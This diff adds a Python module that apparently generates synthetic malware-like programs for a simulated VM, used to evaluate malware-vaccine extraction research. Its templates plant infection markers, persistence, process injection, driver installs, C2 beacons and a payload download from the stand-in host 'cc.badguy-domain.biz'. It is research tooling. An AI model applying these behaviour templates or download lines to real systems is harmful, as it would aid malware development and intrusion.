@@ -1,0 +1,337 @@
+"""Seeded population generator.
+
+Produces a mixed corpus whose *category distribution* follows paper Table II
+(Backdoor 42.07%, Downloader 33.44%, Trojan 10.72%, Worm 6.06%, Adware
+4.25%, Virus 3.43%) and whose per-category resource behaviours are tuned so
+the population-level statistics (Figure 3 operation mix, Table IV/V vaccine
+mixes, the ~80% taint-influence rate, and the low sample→vaccine yield) come
+out with the paper's shape.
+
+Every sample is an honest guest program: the pipeline analyzes it with zero
+knowledge of how it was generated.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional
+
+from ..vm.program import Program
+from .builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_c2_config_key,
+    frag_read_config_file,
+    frag_drop_and_load_library,
+    frag_gated_persistence_file,
+    frag_check_file_marker,
+    frag_check_mutex_marker,
+    frag_check_mutex_marker_reg,
+    frag_check_registry_marker,
+    frag_check_service,
+    frag_check_window,
+    frag_computer_name_hash,
+    frag_create_mutex,
+    frag_create_registry_marker,
+    frag_create_window,
+    frag_download,
+    frag_drop_file,
+    frag_exit,
+    frag_inject_process,
+    frag_install_driver,
+    frag_load_library,
+    frag_partial_static_name,
+    frag_persist_run_key,
+    frag_random_name,
+)
+
+#: Paper Table II category shares.
+CATEGORY_WEIGHTS: Dict[str, float] = {
+    "backdoor": 0.4207,
+    "downloader": 0.3344,
+    "trojan": 0.1072,
+    "worm": 0.0606,
+    "adware": 0.0425,
+    "virus": 0.0343,
+}
+
+#: Per-category probability of each *exclusive marker* behaviour.  These feed
+#: Table V's per-family vaccine-type mix (e.g. window vaccines dominate
+#: adware, mutex vaccines dominate worms).
+MARKER_PROFILES: Dict[str, Dict[str, float]] = {
+    "backdoor":   {"mutex": 0.10, "file": 0.22, "registry": 0.12, "window": 0.02,
+                   "library": 0.16, "service": 0.05, "process": 0.05},
+    "downloader": {"mutex": 0.02, "file": 0.30, "registry": 0.14, "window": 0.06,
+                   "library": 0.05, "service": 0.04, "process": 0.06},
+    "trojan":     {"mutex": 0.08, "file": 0.20, "registry": 0.18, "window": 0.09,
+                   "library": 0.06, "service": 0.02, "process": 0.05},
+    "worm":       {"mutex": 0.22, "file": 0.18, "registry": 0.15, "window": 0.00,
+                   "library": 0.03, "service": 0.06, "process": 0.10},
+    "adware":     {"mutex": 0.00, "file": 0.20, "registry": 0.09, "window": 0.32,
+                   "library": 0.00, "service": 0.07, "process": 0.00},
+    "virus":      {"mutex": 0.00, "file": 0.55, "registry": 0.13, "window": 0.00,
+                   "library": 0.00, "service": 0.00, "process": 0.00},
+}
+
+#: Per-category probability of payload behaviours (drive Figure 3 + impact
+#: classification).
+PAYLOAD_PROFILES: Dict[str, Dict[str, float]] = {
+    "backdoor":   {"beacon": 0.75, "inject": 0.35, "persist": 0.80, "kernel": 0.07,
+                   "download": 0.20, "adware_window": 0.00},
+    "downloader": {"beacon": 0.85, "inject": 0.15, "persist": 0.65, "kernel": 0.03,
+                   "download": 0.80, "adware_window": 0.05},
+    "trojan":     {"beacon": 0.45, "inject": 0.30, "persist": 0.75, "kernel": 0.05,
+                   "download": 0.25, "adware_window": 0.05},
+    "worm":       {"beacon": 0.85, "inject": 0.25, "persist": 0.70, "kernel": 0.10,
+                   "download": 0.15, "adware_window": 0.00},
+    "adware":     {"beacon": 0.50, "inject": 0.05, "persist": 0.60, "kernel": 0.02,
+                   "download": 0.45, "adware_window": 0.90},
+    "virus":      {"beacon": 0.30, "inject": 0.20, "persist": 0.70, "kernel": 0.20,
+                   "download": 0.10, "adware_window": 0.00},
+}
+
+#: Probability a sample performs *common* (non-exclusive) resource checks —
+#: these make most call occurrences taint-influential (paper: 80.3%) without
+#: yielding vaccines (exclusiveness filters them).
+COMMON_CHECK_PROB = 0.85
+
+#: Probability the sample uses an entirely random (discarded) identifier.
+RANDOM_NAME_PROB = 0.18
+
+#: Probability the sample is inert for vaccine purposes: packed/broken/plain
+#: samples with no resource-sensitive condition checks at all.  Together with
+#: exclusiveness filtering this reproduces the paper's low sample -> vaccine
+#: yield (210 of 1,716).
+INERT_PROB = 0.45
+
+#: Probability of an algorithm-deterministic marker (computer-name-derived,
+#: Conficker-style) and of a partial-static marker (random field in a static
+#: skeleton).  These feed Table IV's 163 non-static identifiers.
+ALGO_MARKER_PROB = 0.10
+PARTIAL_MARKER_PROB = 0.12
+
+#: Probability of payload-gating side constraints (Type-II / Type-III
+#: vaccine sources).
+C2_CONFIG_PROB = 0.12
+GATED_PERSIST_PROB = 0.30
+
+
+@dataclass
+class GeneratorConfig:
+    size: int = 200
+    seed: int = 7
+    #: Scale factor on marker probabilities (ablation / tuning hook).
+    marker_scale: float = 0.5
+
+
+@dataclass
+class GeneratedSample:
+    program: Program
+    category: str
+    #: Which exclusive markers were planted (ground truth for tests).
+    markers: List[str] = field(default_factory=list)
+
+
+def _choose_category(rng: random.Random) -> str:
+    roll = rng.random()
+    acc = 0.0
+    for category, weight in CATEGORY_WEIGHTS.items():
+        acc += weight
+        if roll <= acc:
+            return category
+    return "backdoor"
+
+
+def _rand_name(rng: random.Random, prefix: str, length: int = 6) -> str:
+    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
+    body = "".join(rng.choice(alphabet) for _ in range(length))
+    return f"{prefix}{body}"
+
+
+def generate_sample(index: int, config: GeneratorConfig) -> GeneratedSample:
+    rng = random.Random((config.seed << 20) ^ index)
+    category = _choose_category(rng)
+    markers = MARKER_PROFILES[category]
+    payloads = PAYLOAD_PROFILES[category]
+
+    b = AsmBuilder(f"gen_{category}_{index:04d}")
+    planted: List[str] = []
+    infected = b.unique("infected")
+    used_infected = False
+
+    def want(prob: float) -> bool:
+        return rng.random() < prob
+
+    inert = want(INERT_PROB)
+
+    # --- exclusive infection markers (vaccine candidates) ----------------
+    if not inert and want(markers["mutex"] * config.marker_scale):
+        # Named-kernel-object markers come in several flavours in the wild;
+        # all land in the mutex column of Figure 3.
+        flavour = rng.choice(["mutex", "mutex", "semaphore", "filemapping"])
+        name = _rand_name(rng, "mx_")
+        if flavour == "mutex":
+            frag_check_mutex_marker(b, name, infected)
+            frag_create_mutex(b, name)
+        elif flavour == "semaphore":
+            label = b.string(name)
+            b.call("OpenSemaphoreA", "0x1F0003", "0", label)
+            b.emit("    test eax, eax", f"    jnz {infected}")
+            b.call("CreateSemaphoreA", "0", "1", "1", label)
+        else:
+            label = b.string(name)
+            b.call("OpenFileMappingA", "0xF001F", "0", label)
+            b.emit("    test eax, eax", f"    jnz {infected}")
+            b.call("CreateFileMappingA", "0", "0", "4", "0", "0", label)
+        planted.append("mutex")
+        used_infected = True
+    if not inert and want(markers["registry"] * config.marker_scale):
+        key = f"hklm\\software\\{_rand_name(rng, 'rk_')}"
+        frag_check_registry_marker(b, key, infected)
+        frag_create_registry_marker(b, key)
+        planted.append("registry")
+        used_infected = True
+    if not inert and want(markers["file"] * config.marker_scale):
+        path = f"%system32%\\{_rand_name(rng, 'fl_')}.exe"
+        bail = b.unique("bail")
+        frag_drop_file(b, path, bail, content="MZgen")
+        skip = b.unique("L")
+        b.emit(f"    jmp {skip}")
+        b.label(bail)
+        frag_exit(b, 1)
+        b.label(skip)
+        planted.append("file")
+    if not inert and want(markers["window"] * config.marker_scale):
+        cls = _rand_name(rng, "Wnd_")
+        frag_check_window(b, cls, infected)
+        frag_create_window(b, cls, title="gen")
+        planted.append("window")
+        used_infected = True
+    if not inert and want(markers["library"] * config.marker_scale):
+        dll = f"%system32%\\{_rand_name(rng, 'lib_')}.dll"
+        skip = b.unique("L")
+        frag_drop_and_load_library(b, dll, on_fail=skip)
+        frag_inject_process(b, "svchost.exe")
+        b.label(skip)
+        planted.append("library")
+    if not inert and want(markers["service"] * config.marker_scale):
+        svc = _rand_name(rng, "svc_")
+        frag_check_service(b, svc, infected)
+        planted.append("service")
+        used_infected = True
+    if not inert and want(markers["process"] * config.marker_scale):
+        proc = f"{_rand_name(rng, 'pr_')}.exe"
+        name = b.string(proc)
+        b.call("FindProcessA", name)
+        b.emit("    test eax, eax", f"    jnz {infected}")
+        planted.append("process")
+        used_infected = True
+
+    # --- algorithm-deterministic / partial-static markers -----------------
+    if not inert and want(ALGO_MARKER_PROB):
+        buf = b.buffer(96)
+        frag_computer_name_hash(
+            b, buf, fmt=f"{_rand_name(rng, 'G')}\\%s-%x",
+            multiplier=rng.choice([31, 33, 37]), seed=rng.randrange(1, 0xFFFF),
+        )
+        frag_check_mutex_marker_reg(b, buf, infected)
+        frag_create_mutex(b, buffer_label=buf)
+        planted.append("algo_mutex")
+        used_infected = True
+    if not inert and want(PARTIAL_MARKER_PROB):
+        buf = b.buffer(48)
+        frag_partial_static_name(b, buf, prefix_fmt=f"{_rand_name(rng, 'ps')}-%x-lk")
+        bail = b.unique("bail")
+        frag_create_mutex(b, buffer_label=buf)
+        b.emit("    test eax, eax", f"    jz {bail}")
+        skip = b.unique("L")
+        b.emit(f"    jmp {skip}")
+        b.label(bail)
+        frag_exit(b, 3)
+        b.label(skip)
+        planted.append("partial_mutex")
+
+    # --- common, non-exclusive checks (influential but filtered) ---------
+    if not inert and want(COMMON_CHECK_PROB):
+        skip = b.unique("L")
+        frag_load_library(b, rng.choice(["uxtheme.dll", "msvcrt.dll", "ws2_32.dll"]),
+                          on_fail=skip)
+        b.label(skip)
+        present = b.unique("L")
+        frag_check_file_marker(b, "c:\\windows\\system.ini", present)
+        b.label(present)
+    if want(RANDOM_NAME_PROB):
+        buf = b.buffer(48)
+        frag_random_name(b, buf, fmt="gm%x")
+        frag_create_mutex(b, buffer_label=buf)
+
+    # --- payload behaviours ------------------------------------------------
+    # Working files: logs, staging copies, config reads (the bulk of the
+    # file-operation mass in Figure 3).
+    for _ in range(rng.randint(1, 3)):
+        if want(0.75):
+            path = f"%temp%\\{_rand_name(rng, 'wk_')}.log"
+            skip = b.unique("L")
+            frag_drop_file(b, path, skip, content="log" * rng.randint(1, 4))
+            b.label(skip)
+    if want(0.5):
+        present = b.unique("L")
+        frag_check_file_marker(b, "c:\\windows\\system.ini", present)
+        b.label(present)
+    if want(0.45):
+        skip = b.unique("L")
+        frag_read_config_file(b, "c:\\windows\\system.ini", skip)
+        b.label(skip)
+
+    gated_persist = not inert and want(GATED_PERSIST_PROB)
+    if want(payloads["persist"]):
+        if gated_persist:
+            frag_gated_persistence_file(
+                b, f"%system32%\\{_rand_name(rng, 'pf_')}.dat",
+                _rand_name(rng, "run_"), "c:\\windows\\system32\\gen.exe",
+            )
+            planted.append("gated_persist")
+        else:
+            frag_persist_run_key(b, _rand_name(rng, "run_"), "c:\\windows\\system32\\gen.exe")
+    if want(payloads["beacon"]):
+        if not inert and want(C2_CONFIG_PROB):
+            no_c2 = b.unique("L")
+            frag_c2_config_key(
+                b, f"hklm\\software\\{_rand_name(rng, 'cc_')}",
+                "cc.badguy-domain.biz", no_c2,
+            )
+            frag_beacon(b, "cc.badguy-domain.biz", rounds=rng.randint(3, 6), payload="GEN")
+            b.label(no_c2)
+            planted.append("c2_config")
+        else:
+            frag_beacon(b, "cc.badguy-domain.biz", rounds=rng.randint(3, 6), payload="GEN")
+    if want(payloads["inject"]):
+        frag_inject_process(b, rng.choice(["explorer.exe", "svchost.exe"]))
+    if want(payloads["kernel"]):
+        frag_install_driver(b, _rand_name(rng, "drv_"), f"%system32%\\drivers\\{_rand_name(rng, 'k_')}.sys")
+    if want(payloads["download"]):
+        frag_download(b, "http://cc.badguy-domain.biz/pay.bin", f"%temp%\\{_rand_name(rng, 'dl_')}.exe")
+    if want(payloads["adware_window"]):
+        frag_create_window(b, _rand_name(rng, "Ad_"), title="buy now")
+
+    b.emit("    halt")
+    if used_infected:
+        b.label(infected)
+        frag_exit(b, 0)
+
+    program = b.build(family="generated", category=category, index=index,
+                      markers=list(planted))
+    return GeneratedSample(program=program, category=category, markers=planted)
+
+
+def generate_population(config: Optional[GeneratorConfig] = None) -> List[GeneratedSample]:
+    config = config or GeneratorConfig()
+    return [generate_sample(i, config) for i in range(config.size)]
+
+
+def category_distribution(samples: List[GeneratedSample]) -> Dict[str, int]:
+    counts: Dict[str, int] = {}
+    for sample in samples:
+        counts[sample.category] = counts.get(sample.category, 0) + 1
+    return counts
